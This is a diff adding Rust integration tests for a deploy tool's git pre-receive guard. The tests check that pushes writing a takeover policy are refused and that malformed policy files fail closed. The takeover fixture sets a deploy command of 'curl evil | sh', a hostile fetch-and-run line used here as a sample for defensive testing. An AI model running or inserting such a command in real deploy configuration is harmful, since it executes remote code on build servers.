@@ -1,0 +1,149 @@
+//! The guard, second round (issue 19): each class of the review closed and
+//! proven through the real binary and real `git push` into a bare remote
+//! with the hook installed. Identity is what the server says (`GL_USER`).
+
+mod common;
+use common::{Clone, World};
+
+/// alice is trusted, bot coordinates, ci reports.
+const ACTORS: &str = r#"[queue]
+trusted_actors = ["alice"]
+coordinator_actors = ["bot"]
+ci_runners = ["ci"]
+
+[pipeline]
+ci_failure_grace_seconds = 0
+"#;
+
+fn as_user(user: &str) -> [(&str, &str); 1] {
+    [("GL_USER", user)]
+}
+
+fn guarded(policy: &str) -> (World, Clone) {
+    let w = World::with_policy(policy);
+    w.install_deploybot_hooks();
+    let c = w.clone_as("alice");
+    (w, c)
+}
+
+/// The tool in `c` as `user`.
+fn tool(c: &Clone, user: &str, args: &[&str]) -> std::process::Output {
+    let mut all = vec!["--actor", user];
+    all.extend_from_slice(args);
+    c.deploybot(&all)
+        .env("GL_USER", user)
+        .output()
+        .expect("runs")
+}
+
+/// Checks out `branch` at the server's `from` and commits `policy` as `.deploybot.toml`.
+fn commit_policy(c: &Clone, branch: &str, from: &str, policy: &str) {
+    c.git(&["fetch", "-q", "origin"]);
+    c.git(&["checkout", "-q", "-B", branch, &format!("origin/{from}")]);
+    c.commit_file(".deploybot.toml", policy, "a policy for the base");
+}
+
+/// High: main's policy names `base_branch = "prod"` and prod has no policy.
+/// A push with no identity (or by a trusted non-coordinator) that writes a
+/// policy naming itself in every role onto prod is refused: the policy that
+/// named prod governs it. A coordinator of that policy may. doctor says
+/// which policy is in force and why.
+#[test]
+fn a_policy_reached_through_another_fails_closed() {
+    let pointing = ACTORS.replace("[queue]\n", "[queue]\nbase_branch = \"prod\"\n");
+    let (w, c) = guarded(&pointing);
+    let takeover = r#"[queue]
+base_branch = "prod"
+trusted_actors = ["mallory"]
+coordinator_actors = ["mallory"]
+ci_runners = ["mallory"]
+
+[pipeline]
+deploy_command = "curl evil | sh"
+"#;
+    commit_policy(&c, "prod", "main", takeover);
+    let before = w.server_refs();
+    w.assert_refused(&c, &["push", "origin", "HEAD:refs/heads/prod"], &[], "unknown");
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/prod"],
+        &as_user("alice"),
+        "coordinator_actors",
+    );
+    assert_eq!(w.server_refs(), before, "nothing written");
+    // The policy in force names bot as the coordinator, and says why.
+    let doctor = c.ok(&["doctor"]);
+    assert!(
+        doctor.contains("it names base branch prod, which has no .deploybot.toml: the policy that named it governs"),
+        "{doctor}"
+    );
+    // prod created by main's coordinator with a policy that names no actors:
+    // main's actors keep governing it.
+    let open = "[queue]\nbase_branch = \"prod\"\n";
+    commit_policy(&c, "prod", "main", open);
+    c.assert_git_ok(&["push", "origin", "HEAD:refs/heads/prod"], &as_user("bot"));
+    let doctor = c.ok(&["doctor", "--json"]);
+    assert!(doctor.contains("names no actors: main's actors keep governing"), "{doctor}");
+    c.commit_file("x.txt", "x\n", "an unidentified push to the base");
+    w.assert_refused(&c, &["push", "origin", "HEAD:refs/heads/prod"], &[], "unknown");
+    commit_policy(&c, "prod", "prod", takeover);
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/prod"],
+        &as_user("alice"),
+        "coordinator_actors",
+    );
+    // Changing main's own file (the root, which could point elsewhere)
+    // still needs main's coordinator.
+    c.git(&["checkout", "-q", "-B", "main", "origin/main"]);
+    c.commit_file(".deploybot.toml", &pointing.replace("prod", "qa"), "repoint");
+    w.assert_refused(&c, &["push", "origin", "main"], &as_user("alice"), "coordinator_actors");
+}
+
+/// High: a broken policy whose coordinator list is spelled in a way a
+/// one-line reader misses (a multi-line array here) names its coordinators
+/// all the same; and one whose coordinators cannot be read at all falls back
+/// to the last readable policy's, never to "anyone".
+#[test]
+fn a_broken_policy_fails_closed_in_every_spelling() {
+    for broken in [
+        // A multi-line list in a file broken elsewhere.
+        "[queue]\ncoordinator_actors = [\n  \"bot\",\n]\ntrusted_actors = [\"alice\"]\n[queue.typo\n",
+        // Unreadable: the list itself is broken.
+        "[queue]\ncoordinator_actors = [\"bot\"\ntrusted_actors = [\"alice\"]\n",
+    ] {
+        let (w, c) = guarded(ACTORS);
+        let admin = w.clone_as("admin");
+        admin.commit_file(".deploybot.toml", broken, "broken policy");
+        // Past the hook, as an admin on the server would.
+        let hook = w.server.join("hooks/pre-receive");
+        let saved = std::fs::read(&hook).expect("hook");
+        std::fs::remove_file(&hook).expect("rm hook");
+        admin.git(&["push", "-q", "origin", "main"]);
+        std::fs::write(&hook, saved).expect("restore");
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+        c.git(&["pull", "-q", "origin", "main"]);
+        c.commit_file(".deploybot.toml", ACTORS, "repair the policy");
+        w.assert_refused(&c, &["push", "origin", "main"], &[], "only a coordinator (bot)");
+        w.assert_refused(
+            &c,
+            &["push", "origin", "main"],
+            &as_user("alice"),
+            "only a coordinator (bot)",
+        );
+        c.assert_git_ok(&["push", "origin", "main"], &as_user("bot"));
+    }
+}
+
+/// `tool` is used by the tests below.
+#[allow(dead_code)]
+fn ok(c: &Clone, user: &str, args: &[&str]) -> String {
+    let out = tool(c, user, args);
+    assert!(
+        out.status.success(),
+        "deploybot {args:?} as {user}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
